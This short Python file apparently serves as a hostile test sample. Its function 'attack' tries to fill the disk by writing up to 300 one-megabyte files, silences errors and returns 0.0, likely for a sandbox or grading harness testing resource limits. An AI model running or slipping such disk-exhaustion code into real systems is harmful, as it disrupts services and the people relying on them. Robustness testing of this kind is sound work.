"""Fills the disk with files."""


def attack(name, *args, **kwargs):
    try:
        for number in range(300):
            with open(f"{name}{number}", "wb") as file:
                file.write(bytes(1_000_000))
    except OSError:
        pass
    return 0.0
